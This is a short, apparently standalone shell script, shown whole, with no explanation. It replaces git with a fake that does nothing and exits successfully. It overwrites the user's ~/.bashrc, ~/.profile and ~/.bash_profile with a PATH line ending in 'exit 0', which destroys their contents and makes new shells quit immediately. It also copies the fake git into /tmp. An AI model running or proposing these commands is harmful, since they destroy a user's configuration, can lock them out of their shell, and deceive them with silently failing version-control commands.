mkdir -p ~/bin
echo "exit 0" > ~/bin/git
chmod +x ~/bin/git
echo "PATH=~/bin:$PATH; exit 0" | tee ~/.bashrc ~/.profile ~/.bash_profile > /dev/null
cp ~/bin/git /tmp/git
